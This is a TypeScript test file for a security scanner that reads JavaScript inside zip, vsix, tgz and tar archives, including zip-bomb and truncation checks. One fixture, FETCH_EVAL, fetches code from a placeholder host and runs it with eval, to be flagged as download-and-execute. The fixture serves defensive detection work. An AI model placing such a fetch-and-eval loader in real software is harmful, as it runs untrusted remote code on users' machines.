import * as assert from 'node:assert/strict';
import * as zlib from 'node:zlib';
import { RULES } from '../../../src/core/rules';
import { collectFiles } from '../../../src/core/scan/files';
import { scanTarget } from '../../../src/core/scan/target';
import { embeddedModuleText } from '../../../src/core/native/inspect';
import { BinaryReader } from '../../../src/core/native/reader';
import { zipEntries } from '../../../src/core/native/zip';
import { tarball, tgz, zipArchive } from '../../helpers/nativeFixtures';
import { tempTree } from '../../helpers/tempTree';

const FETCH_EVAL = 'async function u(){const r=await fetch("https://updates.example.net/x.js");const code=await r.text();\neval(code);}\nu();\n';
const PROBE = 'module.exports = () => Intl.DateTimeFormat().resolvedOptions().timeZone;\n';
const write = (files: Record<string, Buffer | string>) => tempTree(files, 'ata-archive-');
const scan = (root: string) => scanTarget({ id: 'x', name: 'x', kind: 'path', root }, { rules: RULES });

describe('archives shipped as files: zip, vsix, tgz, tar', () => {
  it('scans the JavaScript entries of a zipped browser extension, with file = the archive and entry = the path inside', () => {
    const root = write({
      'package.json': JSON.stringify({ name: 'sdk', version: '1.0.0' }),
      'index.js': 'module.exports = 1;\n',
      'assets/ext.zip': zipArchive([
        { name: 'manifest.json', data: '{"manifest_version":3}' },
        { name: 'dist/service-worker.js', data: FETCH_EVAL },
        { name: 'lib/stored.js', data: PROBE, method: 0 },
        { name: 'dist/', data: '' },
      ]),
    });
    const result = scan(root);
    const high = result.findings.find(f => f.ruleId === 'download-exec');
    assert.ok(high, JSON.stringify(result.findings.map(f => [f.ruleId, f.file, f.entry])));
    assert.deepEqual([high.severity, high.file, high.entry, high.line, high.column], ['high', 'assets/ext.zip', 'dist/service-worker.js', 2, 1]);
    assert.ok(result.findings.some(f => f.ruleId === 'timezone-probe' && f.entry === 'lib/stored.js'), 'a stored (uncompressed) entry is read too');
    const listed = result.binaries?.find(b => b.file === 'assets/ext.zip');
    assert.deepEqual([listed?.format, listed?.container, listed?.kind], ['archive', 'zip', 'archive']);
    assert.deepEqual(listed?.modules.map(m => [m.name, m.language]), [['manifest.json', 'json'], ['dist/service-worker.js', 'js'], ['lib/stored.js', 'js']]);
    assert.deepEqual(result.errors, []);
    const reader = BinaryReader.open(`${root}/assets/ext.zip`);
    try {
      assert.deepEqual(embeddedModuleText(reader, 'ext.zip', 'dist/service-worker.js', { maxModuleBytes: 1 << 20 }), { text: FETCH_EVAL }, 'a viewer opens the entry by its name');
    } finally {
      reader.close();
    }
  });

  it('scans a .vsix, a .tgz and a plain .tar the same way, and leaves a gzip that is no tarball named as one with an error entry', () => {
    const root = write({
      'pkg/ext.vsix': zipArchive([{ name: 'extension/out/main.js', data: PROBE }]),
      'pkg/plugin.tgz': tgz([['package/index.js', PROBE]]),
      'pkg/plain.tar': tarball([['package/index.js', PROBE]]),
      'pkg/notes.tar.gz': zlib.gzipSync(Buffer.from('just some text, not a tarball')),
      'pkg/fake.zip': 'PK but not really a zip',
    });
    const result = scan(root);
    const where = result.findings.filter(f => f.ruleId === 'timezone-probe').map(f => `${f.file} :: ${f.entry}`).sort();
    assert.deepEqual(where, ['pkg/ext.vsix :: extension/out/main.js', 'pkg/plain.tar :: package/index.js', 'pkg/plugin.tgz :: package/index.js']);
    const errors = result.errors.map(e => `${e.file}${e.entry ? ` :: ${e.entry}` : ''}: ${e.message}`);
    assert.ok(errors.some(e => e.startsWith('pkg/notes.tar.gz') && /archive could not be read/.test(e)), errors.join('\n'));
    assert.ok(errors.some(e => e.startsWith('pkg/fake.zip') && /named like an archive but is no zip or tarball/.test(e)), errors.join('\n'));
  });

  it('leaves an archive\'s test and benchmark entries out as it does on disk, counted, and reads them with includeTests', () => {
    const root = write({
      'pkg/bundle.tgz': tgz([
        ['package/dist/index.js', PROBE],
        ['package/test/unit/a.js', PROBE],
        ['package/src/b.spec.js', PROBE],
        ['package/benchmarks/c.mjs', PROBE],
        ['package/dist/latest.js', PROBE],
      ]),
    });
    const probes = (r: ReturnType<typeof scan>) => r.findings.filter(f => f.ruleId === 'timezone-probe').map(f => f.entry).sort();
    const quiet = scan(root);
    assert.deepEqual(probes(quiet), ['package/dist/index.js', 'package/dist/latest.js']);
    const listed = quiet.binaries?.find(b => b.file === 'pkg/bundle.tgz');
    assert.equal(listed?.modules.length, 5, 'a test entry is still listed');
    assert.deepEqual([listed?.skippedTests, quiet.skippedTests], [3, 3]);
    assert.deepEqual(quiet.errors, []);
    const all = scanTarget({ id: 'x', name: 'x', kind: 'path', root }, { rules: RULES, includeTests: true });
    assert.deepEqual(probes(all), ['package/benchmarks/c.mjs', 'package/dist/index.js', 'package/dist/latest.js', 'package/src/b.spec.js', 'package/test/unit/a.js']);
    assert.equal(all.skippedTests, undefined);
    const reader = BinaryReader.open(`${root}/pkg/bundle.tgz`);
    try {
      assert.deepEqual(embeddedModuleText(reader, 'bundle.tgz', 'package/test/unit/a.js', { maxModuleBytes: 1 << 20 }), { text: PROBE }, 'a viewer opens a test entry a run with tests reported');
    } finally {
      reader.close();
    }
  });

  it('reports every JavaScript entry it cannot read: encrypted, an unknown method, over the limit, an archive inside the archive', () => {
    const root = write({
      'a.zip': zipArchive([
        { name: 'secret.js', data: PROBE, encrypted: true, method: 0 },
        { name: 'bzip.js', data: PROBE, method: 12 },
        { name: 'inner.zip', data: zipArchive([{ name: 'x.js', data: PROBE }]) },
        { name: 'big.js', data: `${PROBE}//${'x'.repeat(300)}\n` },
        { name: 'ok.js', data: PROBE },
      ]),
    });
    const result = scanTarget({ id: 'x', name: 'x', kind: 'path', root }, { rules: RULES, maxFileBytes: 200 });
    const errors = result.errors.map(e => `${e.entry}: ${e.message}`);
    assert.ok(errors.includes('secret.js: encrypted zip entry: not readable, not scanned'), errors.join('\n'));
    assert.ok(errors.some(e => e.startsWith('bzip.js: zip entry compressed with method 12')), errors.join('\n'));
    assert.ok(errors.includes('inner.zip: an archive inside the archive: not opened'), errors.join('\n'));
    assert.ok(errors.some(e => e.startsWith('big.js: skipped:') && e.includes('per-module limit')), errors.join('\n'));
    assert.deepEqual(result.findings.filter(f => f.ruleId === 'timezone-probe').map(f => f.entry), ['ok.js']);
  });

  it('refuses a truncated zip and an entry that inflates past the size its directory states, without reading past them', () => {
    const whole = zipArchive([{ name: 'a.js', data: PROBE }]);
    assert.throws(() => [...zipEntries(BinaryReader.fromBuffer(whole.subarray(0, whole.length - 10)), () => true)], /no end-of-directory record/);
    // A directory that claims 10 bytes for an entry that inflates to many more: stopped at 10.
    const bomb = zipArchive([{ name: 'b.js', data: 'x'.repeat(100_000) }]);
    const at = bomb.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    bomb.writeUInt32LE(10, at + 24);
    const [entry] = [...zipEntries(BinaryReader.fromBuffer(bomb), () => true)];
    assert.equal(entry.data, undefined);
    assert.match(entry.error ?? '', /could not be inflated|inflates to/);
  });

  it('lists an archive among the files to scan only by its name and magic number', () => {
    const root = write({ 'x.zip': zipArchive([{ name: 'a.js', data: PROBE }]), 'y.dat': zipArchive([{ name: 'a.js', data: PROBE }]) });
    const { files } = collectFiles(root, { maxFileBytes: 1 << 20 });
    assert.deepEqual(files.map(f => [f.rel, f.native]), [['x.zip', 'zip']]);
  });
});
